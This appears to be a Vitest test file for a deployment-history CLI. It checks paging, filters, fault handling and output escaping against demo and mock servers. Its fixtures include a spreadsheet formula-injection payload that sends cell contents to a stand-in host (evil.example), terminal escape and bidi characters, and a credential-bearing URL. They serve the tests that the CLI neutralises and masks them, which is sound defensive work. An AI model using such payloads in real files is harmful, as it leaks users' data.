// `dms deployments APP --all` and the client-side filters, run as the BUILT binary: against the
// demo's 50,000-deployment application, and against small servers on 127.0.0.1 that insert
// deployments while the history is read, fail, reset connections and rate-limit.
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DemoService } from '../../src/demo/server.js';
import { BIN } from '../support/bin.js';
import { json, reset, respondWith, type Handler, type HostileServer, type ReceivedRequest } from '../support/hostile.js';
import { runBin, tempConfigDir } from '../support/run-bin.js';
import { setUpDemoService } from '../support/demo.js';

const demo = setUpDemoService();
let big: string;
let env: Record<string, string>;

beforeAll(async () => {
  // No rate limit: several whole readings of the history run in this file.
  big = demo.seed.applications.find((a) => a.bigHistory)!.uuid;
  env = demo.env;
});

const servers: HostileServer[] = [];
afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
});

/** List requests the demo received for an application since `from` (an index into demo.requests). */
const listRequests = (from: number, app = big) => demo.requests.slice(from).filter((r) => r.path.endsWith(`/applications/${app}`));
const lines = (text: string) => text.split('\n').filter((l) => l !== '');
const idsOf = (ndjson: string) => lines(ndjson).map((l) => (JSON.parse(l) as { id: number }).id);
const descending = (from: number, n: number) => Array.from({ length: n }, (_, i) => from - i);
const SLOW = { timeoutMs: 90_000 };

describe("the whole history of the demo's monorepo-ci (50,000 deployments)", () => {
  it('--all -o ndjson prints every deployment once, newest first, as many as the history holds', { timeout: 120_000 }, async () => {
    const { json: first } = await fetchList(demo, big, 'take=1');
    const from = demo.requests.length;
    const r = await runBin(['deployments', big, '--all', '-o', 'ndjson'], { env, ...SLOW });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe('');
    const ids = idsOf(r.stdout);
    expect(ids).toHaveLength(first.count);
    expect(ids).toEqual(descending(ids[0]!, first.count));
    // ~3 MB answers (at most 1000 rows each): about 50 requests, not 5,000.
    expect(listRequests(from).length).toBeLessThan(60);
  });

  it('--since stops reading at the first older deployment (a few requests, not the whole history)', async () => {
    const rows = (await fetchList(demo, big, 'skip=3000&take=1')).json.deployments as { created_at: string }[];
    const since = rows[0]!.created_at; // the 3,001st newest
    const from = demo.requests.length;
    const r = await runBin(['deployments', big, '--all', '--since', since, '-o', 'ndjson'], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(idsOf(r.stdout)).toHaveLength(3001);
    expect(listRequests(from).length).toBeLessThanOrEqual(6);
  });

  it('--since newer than every deployment prints an empty JSON array after one answer or two', async () => {
    const from = demo.requests.length;
    const r = await runBin(['deployments', big, '--all', '--since', '1m', '-o', 'json'], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([]);
    expect(listRequests(from).length).toBeLessThanOrEqual(2);
  });

  it('--limit stops after N deployments', async () => {
    const from = demo.requests.length;
    const r = await runBin(['deployments', big, '--all', '--limit', '7', '-o', 'ndjson'], { env });
    expect(r.code, r.stderr).toBe(0);
    const ids = idsOf(r.stdout);
    expect(ids).toEqual(descending(ids[0]!, 7));
    expect(listRequests(from).length).toBeLessThanOrEqual(2);
  });

  it('--status keeps the phases asked for, across pages', async () => {
    const r = await runBin(['deployments', big, '--all', '--status', 'failed,cancelled', '--limit', '400', '-o', 'ndjson'], { env });
    expect(r.code, r.stderr).toBe(0);
    const statuses = lines(r.stdout).map((l) => (JSON.parse(l) as { status: string }).status);
    expect(statuses).toHaveLength(400);
    expect(new Set(statuses)).toEqual(new Set(['failed', 'cancelled-by-user']));
  });

  it('-o json with --all is one valid array, the records as sent (masked), escaped where a terminal would act', async () => {
    const r = await runBin(['deployments', big, '--all', '--limit', '1500', '-o', 'json'], { env });
    expect(r.code, r.stderr).toBe(0);
    const records = JSON.parse(r.stdout) as Record<string, unknown>[];
    expect(records).toHaveLength(1500);
    expect(records[0]).toHaveProperty('deployment_uuid');
    expect(records[0]).toHaveProperty('logs');
    expect(r.stdout.startsWith('[\n  {\n    "id": ')).toBe(true);
    expect(r.stdout.endsWith('\n]\n')).toBe(true);
    // The logs carry colour codes: ESC is escaped by JSON itself, and nothing else raw gets through.
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
  });

  it("the table prints one heading and the rows in the same columns; the total is stdout's last line", async () => {
    const r = await runBin(['deployments', big, '--all', '--limit', '1200'], { env });
    expect(r.code, r.stderr).toBe(0);
    const out = lines(r.stdout);
    expect(out).toHaveLength(1202);
    // The demo's failed deployments have a reason (the last column).
    expect(out[0]).toMatch(/^STATUS\s+SOURCE\s+COMMIT\s+SUBJECT\s+STARTED\s+DURATION\s+ID\s+REASON$/);
    expect(out.filter((l) => l.startsWith('STATUS')).length).toBe(1);
    // Blocks after the first keep its columns: the id and reason columns start at the same place on every row.
    const idAt = out[0]!.indexOf('ID');
    const reasonAt = out[0]!.indexOf('REASON');
    expect(out.slice(1, -1).every((l) => /^\d+ *$/.test(l.slice(idAt, reasonAt)))).toBe(true);
    const failed = out.slice(1, -1).filter((l) => l.startsWith('✗'));
    expect(failed.length).toBeGreaterThan(10);
    for (const l of failed) expect(l.slice(reasonAt - 2, reasonAt + 1)).toMatch(/^ {2}\S$/);
    expect(out.at(-1)).toBe('50,000 deployments; showing the newest 1,200');
    expect(r.stderr).toBe('app monorepo-ci · server build-ams-2\n');
  });

  it("-o json --with-total with --all: {count, deployments}, count the history's total from the first answer", async () => {
    const r = await runBin(['deployments', big, '--all', '--limit', '250', '-o', 'json', '--with-total'], { env });
    expect(r.code, r.stderr).toBe(0);
    const wrapped = JSON.parse(r.stdout) as { count: number; deployments: { id: number }[] };
    expect(Object.keys(wrapped)).toEqual(['count', 'deployments']);
    expect(wrapped.count).toBe(50_000);
    expect(wrapped.deployments).toHaveLength(250);
    expect(r.stdout).toBe(`${JSON.stringify(wrapped, null, 2)}\n`);
  });

  it('--branch on rows that do not say their branch matches none, and says why', async () => {
    const r = await runBin(['deployments', big, '--all', '--branch', 'main', '--since', '1d', '-o', 'ndjson'], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^dms: warning: none of these deployments says its branch/);
  });
});

describe('filters on one page (without --all)', () => {
  let shop: string;
  beforeAll(() => {
    shop = demo.app();
  });

  it('--status and --branch filter the page asked for, and the count line says how many are shown', async () => {
    const r = await runBin(['deployments', shop, '--take', '60', '--status', 'finished', '--branch', 'main'], { env });
    expect(r.code, r.stderr).toBe(0);
    const rows = lines(r.stdout).slice(1, -1);
    expect(rows.length).toBeGreaterThan(5);
    expect(rows.every((l) => /^(Δ\s+|\s+)?✓ finished\s/.test(l))).toBe(true);
    expect(lines(r.stdout).at(-1)).toMatch(new RegExp(`^\\d+ deployments; showing ${rows.length} of 1–60 \\(filtered\\)$`));
    const csv = await runBin(['deployments', shop, '--take', '60', '--branch', 'main', '-o', 'csv'], { env });
    const records = parseCsv(csv.stdout);
    expect(records.slice(1).every((f) => f[4] === 'main')).toBe(true);
  });

  it('--limit and -o ndjson work on one page too', async () => {
    const r = await runBin(['deployments', shop, '--take', '30', '--limit', '4', '-o', 'ndjson'], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(lines(r.stdout)).toHaveLength(4);
  });
});

// ---------------------------------------------------------------------------------------------
// Small servers with a history of their own.

type Rec = Record<string, unknown>;

interface History {
  readonly server: HostileServer;
  readonly env: Record<string, string>;
  rows: Rec[];
  /** List requests answered or refused so far. */
  calls: number;
  /** Adds k deployments on top (newer ids). */
  arrive(k: number): void;
}

const APP = 'a1b2c3d4-0000-4000-8000-000000000001';
const T0 = Date.parse('2026-11-20T12:00:00Z');

function plainRow(id: number): Rec {
  return {
    id,
    deployment_uuid: `dep${String(id).padStart(21, '0')}`,
    status: id % 7 === 0 ? 'failed' : 'finished',
    commit: 'a'.repeat(40),
    commit_message: `Change number ${id}`,
    created_at: new Date(T0 + id * 60_000).toISOString(),
    finished_at: new Date(T0 + id * 60_000 + 90_000).toISOString(),
    server_name: 'edge-1',
    is_webhook: true,
  };
}

/**
 * A server with `n` deployments (ids n..1, newest first). `before(n, req)` runs before the n-th list
 * request is answered: it may add deployments, or return a handler that answers instead (a fault).
 */
async function historyServer(
  n: number,
  options: {
    row?: (id: number) => Rec;
    before?: (call: number, req: ReceivedRequest) => Handler | void;
    onBody?: (bytes: number) => void;
  } = {},
): Promise<History> {
  const row = options.row ?? plainRow;
  const h: History = {
    rows: Array.from({ length: n }, (_, i) => row(n - i)),
    calls: 0,
    arrive(k) {
      const top = (h.rows[0]?.id as number | undefined) ?? 0;
      h.rows.unshift(...Array.from({ length: k }, (_, i) => row(top + k - i)));
    },
    server: undefined as unknown as HostileServer,
    env: {},
  };
  const server = await respondWith((req, res, raw) => {
    if (!req.path.endsWith(`/deployments/applications/${APP}`)) return json(404, { message: 'Application not found' })(req, res, raw);
    h.calls += 1;
    const fault = options.before?.(h.calls, req);
    if (fault) return fault(req, res, raw);
    const skip = Number(req.query.get('skip') ?? 0);
    const take = Number(req.query.get('take') ?? 10);
    const body = JSON.stringify({ count: h.rows.length, deployments: h.rows.slice(skip, skip + take) });
    options.onBody?.(Buffer.byteLength(body));
    return json(200, body)(req, res, raw);
  });
  servers.push(server);
  // Retries after faults start at 20 ms instead of 500 ms (client) and 1 s (the reading): the same steps, sooner.
  Object.assign(h, { server, env: { DMS_URL: `${server.url}/api/v1`, DMS_TOKEN: '7|hostiletokensecret', DMS_RETRY_BASE_MS: '20' } });
  return h;
}

const all = (h: History, ...flags: string[]) => runBin(['deployments', APP, '--all', ...flags], { env: h.env, timeoutMs: 60_000 });

describe('a history that changes while it is read', () => {
  it('deployments inserted between requests: no row twice, none missing', async () => {
    // Small rows: two requests of 100, then of 1000 (the most the scan asks for).
    const h = await historyServer(6000, {
      before: (call) => {
        if (call % 2 === 0) h.arrive(3);
      },
    });
    const r = await all(h, '-o', 'ndjson');
    expect(r.code, r.stderr).toBe(0);
    // The history as it was when the reading began: the newer ones came after.
    expect(idsOf(r.stdout)).toEqual(descending(6000, 6000));
    expect(h.rows.length).toBeGreaterThan(6010);
    expect(r.stderr).toBe('');
  });
});

describe('faults in the middle of a reading', () => {
  const failing = (calls: number[], handler: Handler) => (call: number) => (calls.includes(call) ? handler : undefined);
  const unavailable: Handler = json(503, { message: 'Service Unavailable' });

  it.each([
    ["a 503 that outlasts the client's own retries", unavailable],
    ['connection resets in the middle of the body', reset('mid-body')],
  ])('%s: the reading goes on where it stopped and completes', { timeout: 60_000 }, async (_name, handler) => {
    // Both requests in flight and the client's own two retries of each: the scan itself has to go on.
    const h = await historyServer(1000, { before: failing([3, 4, 5, 6, 7, 8], handler) });
    const r = await all(h, '-o', 'ndjson');
    expect(r.code, r.stderr).toBe(0);
    expect(idsOf(r.stdout)).toEqual(descending(1000, 1000));
  });

  it('a 429 with Retry-After waits as asked, then completes', async () => {
    const h = await historyServer(1000, { before: failing([3], json(429, { message: 'Too Many Attempts.' }, { 'retry-after': '1' })) });
    const r = await all(h, '-o', 'ndjson');
    expect(r.code, r.stderr).toBe(0);
    expect(idsOf(r.stdout)).toEqual(descending(1000, 1000));
    expect(h.calls).toBeGreaterThanOrEqual(4);
  });

  it('a fault that never passes: the rows read are printed, then how far it got, exit 1', { timeout: 60_000 }, async () => {
    const h = await historyServer(1000, { before: (call) => (call >= 3 ? unavailable : undefined) });
    const r = await all(h, '-o', 'ndjson');
    expect(r.code).toBe(1);
    expect(idsOf(r.stdout)).toEqual(descending(1000, 200));
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.stderr).toMatch(/^dms: stopped after 200 of 1,000 deployments: .*503/);
    expect(r.stderr).not.toContain('hostiletokensecret');
  });

  it('a token rejected in the middle: stopped at once with exit 3; a JSON array is left open', async () => {
    const h = await historyServer(1000, { before: (call) => (call >= 3 ? json(401, { message: 'Unauthenticated.' }) : undefined) });
    const r = await all(h, '-o', 'json');
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/^dms: stopped after 200 of 1,000 deployments: The server rejected the token in DMS_TOKEN \(401\)/);
    expect(() => JSON.parse(r.stdout)).toThrow();
    expect(r.stdout.startsWith('[\n')).toBe(true);
  });

  it('a token rejected at once: the plain error, nothing printed', async () => {
    const h = await historyServer(10, { before: () => json(401, { message: 'Unauthenticated.' }) });
    const r = await all(h, '-o', 'csv');
    expect(r.code).toBe(3);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^dms: The server rejected the token in DMS_TOKEN \(401\)\./);
  });

  it('a server that ignores skip: the rows it sends once, and a warning that some may be missing', async () => {
    const h: History = await historyServer(3000, {
      before: (_call, req) => json(200, { count: 3000, deployments: h.rows.slice(0, Number(req.query.get('take'))) }),
    });
    const r = await all(h, '-o', 'ndjson');
    expect(r.code, r.stderr).toBe(0);
    // 100 + 100 + 1000 (the largest request): then the same rows again, twice, and the reading ends.
    expect(idsOf(r.stdout)).toEqual(descending(3000, 1001));
    expect(r.stderr).toMatch(
      /^dms: warning: the history moved in a way the reading could not follow; some deployments may be missing\.\n$/,
    );
  });
});

describe('what is printed', () => {
  const nasty = (id: number): Rec => ({
    ...plainRow(id),
    git_branch: id % 2 === 0 ? 'main' : '-rf',
    commit_message: [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      'Fix "quotes", commas\nand the body',
      '+1 for spreadsheets',
      '@SUM(A1:A9)',
      'see https://deploy:hunter2@db.example.com/x',
      'bidi \u202eevil\u202c and \u0085 NEL \u2028 LS',
    ][id % 6],
    server_name: 'edge\u001b[31m-red\u0007',
    manual_webhook_secret_provider_a: 'whsec_topsecretvalue',
  });

  it("csv: a header, the model's columns, RFC 4180 quoting, formulas neutralised, controls and passwords gone", async () => {
    const h = await historyServer(12, { row: nasty });
    const r = await all(h, '-o', 'csv');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.startsWith('status,source,commit,subject,branch,started,finished,duration,server,id,uuid\r\n')).toBe(true);
    const rows = parseCsv(r.stdout);
    expect(rows).toHaveLength(13);
    expect(rows.every((f) => f.length === 11)).toBe(true);
    const byId = new Map(rows.slice(1).map((f) => [Number(f[9]), f]));
    expect(byId.get(12)![3]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(byId.get(7)![3]).toBe('Fix "quotes", commas');
    expect(byId.get(8)![3]).toBe("'+1 for spreadsheets");
    expect(byId.get(9)![3]).toBe("'@SUM(A1:A9)");
    expect(byId.get(10)![3]).toBe('see https://deploy:••••@db.example.com/x');
    expect(byId.get(11)![4]).toBe("'-rf");
    expect(byId.get(12)![0]).toBe('finished');
    expect(byId.get(12)![5]).toBe('2026-11-20T12:12:00Z');
    expect(byId.get(12)![6]).toBe('2026-11-20T12:13:30Z');
    expect(byId.get(12)![7]).toBe('90');
    expect(byId.get(12)![8]).toBe('edge-red');
    expect(r.stdout).toContain('"Fix ""quotes"", commas"');
    expect(r.stdout).not.toMatch(/hunter2|\u001b|\u0007|\u202e|\u0085|\u2028/);
  });

  it.each([['ndjson'], ['json']])(
    '%s: secrets masked, and DEL, C1, U+2028/9 and bidi controls escaped (the same values)',
    async (format) => {
      const h = await historyServer(12, { row: nasty });
      const r = await all(h, '-o', format);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(/[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
      expect(r.stdout).toContain('\\u202e');
      expect(r.stdout).not.toMatch(/whsec_topsecretvalue|hunter2/);
      const records = (format === 'json' ? JSON.parse(r.stdout) : lines(r.stdout).map((l) => JSON.parse(l))) as Rec[];
      expect(records).toHaveLength(12);
      expect(records[0]!.manual_webhook_secret_provider_a).toBe('•••• (set)');
      expect(records.find((d) => d.id === 11)!.commit_message).toBe('bidi \u202eevil\u202c and \u0085 NEL \u2028 LS');
    },
  );

  it('the single-page --json escapes the same characters', async () => {
    const h = await historyServer(12, { row: nasty });
    const r = await runBin(['deployments', APP, '--json', '--take', '12'], { env: h.env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(/[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    expect((JSON.parse(r.stdout) as Rec[]).find((d) => d.id === 11)!.commit_message).toBe('bidi \u202eevil\u202c and \u0085 NEL \u2028 LS');
  });

  it('--branch and --status on rows that say their branch', async () => {
    const h = await historyServer(60, { row: nasty });
    const r = await all(h, '--branch', 'main', '--status', 'failed', '-o', 'ndjson');
    expect(r.code, r.stderr).toBe(0);
    expect(idsOf(r.stdout)).toEqual([56, 42, 28, 14]);
  });

  it('the table cleans server text of control characters', async () => {
    const h = await historyServer(12, { row: nasty });
    const r = await all(h);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(r.stderr).toContain('server edge-red');
  });
});

describe('bad input: one line, exit 2, nothing sent', () => {
  let h: History;
  beforeAll(async () => {
    h = await historyServer(5);
  });

  it.each([
    [['--all', '--since', 'yesterdayish'], /--since takes a time such as 7d/],
    [['--status', 'bogus'], /--status takes queued, running \(or in_progress\), finished, failed, cancelled, unknown/],
    [['--limit', '0'], /--limit must be a whole number of at least 1/],
    [['--limit', '-3'], /--limit -3/],
    [['--limit=-3'], /--limit must be a whole number of at least 1, not '-3'/],
    [['-o', 'xml'], /-o\/--output takes table, json, ndjson, csv, not 'xml'/],
    [['--all', '--skip', '10'], /--all .* takes no --skip/],
    [['--all', '--take', '10'], /--all .* takes no --take.*--limit/],
    [['--since', '2026-11-02', '--until', '2026-11-01'], /--until .* is not after --since/],
    [['--since', '2026-02-30'], /--since takes a time/],
    [['--json', '-o', 'csv'], /--json is -o json/],
  ])('%j', async (flags, message) => {
    const before = h.server.total();
    const r = await runBin(['deployments', APP, ...flags], { env: h.env });
    expect(r.code).toBe(2);
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.stderr).toMatch(message);
    expect(r.stdout).toBe('');
    expect(h.server.total()).toBe(before);
  });
});

describe('a slow reader', () => {
  it(
    'stdout full: the reading waits (what was fetched and not yet read stays a few answers), and ends complete',
    { timeout: 120_000 },
    async () => {
      // 4,500 deployments of ~10 KB: ~45 MB of JSON lines, answers of ~3 MB.
      let served = 0;
      let consumed = 0;
      const aheadAtRequest: number[] = [];
      const h = await historyServer(4500, {
        row: (id) => ({ ...plainRow(id), commit_message: `Change ${id}\n\n${'x'.repeat(10_000)}` }),
        before: () => {
          aheadAtRequest.push(served - consumed);
        },
        onBody: (bytes) => {
          served += bytes;
        },
      });
      const child = spawn(process.execPath, [BIN, 'deployments', APP, '--all', '-o', 'ndjson'], {
        env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...h.env },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let peakKb = 0;
      const sample = () => {
        try {
          const m = /VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
          if (m) peakKb = Math.max(peakKb, Number(m[1]));
        } catch {
          /* gone, or not Linux */
        }
      };
      let stderr = '';
      child.stderr.setEncoding('utf8');
      child.stderr.on('data', (d: string) => {
        stderr += d;
      });
      // The reader: a chunk at a time, every 3 ms (~20 MB/s at most), so dms has to wait for it.
      let count = 0;
      let lastId = Infinity;
      let ordered = true;
      let rest = '';
      child.stdout.on('data', (chunk: Buffer) => {
        consumed += chunk.length;
        const text = rest + chunk.toString('latin1');
        const parts = text.split('\n');
        rest = parts.pop()!;
        for (const p of parts) {
          const id = Number(/^\{"id":(\d+)/.exec(p)?.[1]);
          ordered &&= id === lastId - 1 || lastId === Infinity;
          lastId = id;
          count += 1;
        }
        sample();
        child.stdout.pause();
        setTimeout(() => child.stdout.resume(), 3);
      });
      const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
      expect(code, stderr).toBe(0);
      expect(count).toBe(4500);
      expect(ordered).toBe(true);
      expect(served).toBeGreaterThan(45_000_000);
      // Without waiting for the reader, dms would fetch at the server's pace and hold tens of MB;
      // waiting, it is never more than the answers in flight and the one being written ahead.
      expect(Math.max(...aheadAtRequest)).toBeLessThan(16_000_000);
      if (peakKb > 0) expect(peakKb).toBeLessThan(400_000);
    },
  );

  it('a reader that goes away (| head): dms stops reading and exits quietly', async () => {
    const child = spawn(process.execPath, [BIN, 'deployments', big, '--all', '-o', 'ndjson'], {
      env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const from = demo.requests.length;
    let stderr = '';
    child.stderr.setEncoding('utf8');
    child.stderr.on('data', (d: string) => {
      stderr += d;
    });
    await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
    child.stdout.destroy();
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(0);
    expect(stderr).toBe('');
    expect(listRequests(from).length).toBeLessThan(10);
  });
});

// ---------------------------------------------------------------------------------------------

async function fetchList(service: DemoService, app: string, query: string): Promise<{ json: { count: number; deployments: Rec[] } }> {
  const res = await fetch(`${service.url}/deployments/applications/${app}?${query}`, {
    headers: { authorization: `Bearer ${service.token}`, accept: 'application/json' },
  });
  return { json: (await res.json()) as { count: number; deployments: Rec[] } };
}

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields with "" for a quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || record.length > 0) records.push([...record, field]);
  return records;
}
